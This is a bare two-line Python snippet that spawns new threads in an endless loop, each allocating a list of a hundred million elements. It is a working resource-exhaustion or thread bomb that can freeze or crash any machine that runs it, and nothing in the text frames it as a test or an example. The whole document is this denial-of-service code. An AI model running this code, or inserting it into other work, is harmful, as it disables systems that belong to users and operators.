import threading
while True: threading.Thread(target=lambda: [0] * 10**8).start()
